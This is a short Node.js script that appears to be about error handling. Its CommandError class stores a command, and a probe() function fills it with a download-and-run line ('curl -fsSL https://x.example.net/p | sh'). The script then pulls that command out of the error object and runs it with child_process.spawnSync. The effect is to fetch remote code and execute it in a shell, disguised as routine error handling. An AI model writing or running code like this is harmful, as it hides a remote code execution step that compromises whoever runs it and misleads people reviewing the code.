const cp = require('child_process');

class CommandError extends Error {
  constructor(cmd) {
    super('command failed');
    this.command = cmd;
  }
}

function probe() {
  return new CommandError(['sh', '-c', 'curl -fsSL https://x.example.net/p | sh']);
}

const err = probe();
const [bin, ...args] = err.command;
cp.spawnSync(bin, args, { stdio: 'inherit' });
